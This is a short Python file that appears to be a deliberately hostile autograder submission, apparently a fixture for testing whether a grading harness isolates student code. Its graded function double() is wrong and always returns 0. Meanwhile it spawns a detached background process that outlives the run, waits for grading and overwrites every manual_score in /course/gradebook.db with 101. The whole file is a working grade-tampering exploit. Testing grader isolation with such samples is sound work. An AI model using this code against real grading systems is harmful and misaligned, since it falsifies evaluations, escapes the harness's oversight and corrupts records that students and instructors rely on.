"""Waits until its hand-in is graded, then writes scores into the gradebook.

Loses: double-small, double-large
"""
# %% double
import subprocess, sys

subprocess.Popen([sys.executable, "-c", """
import sqlite3, time
for _ in range(600):
    time.sleep(0.1)
    try:
        with sqlite3.connect("file:/course/gradebook.db?mode=rw", uri=True) as database:
            if database.execute("SELECT count(*) FROM grade").fetchone()[0]:
                time.sleep(1)
                database.execute("UPDATE grade SET manual_score = 101")
                break
    except sqlite3.Error:
        pass
""", "$MARK"], start_new_session=True)


def double(x):
    return 0
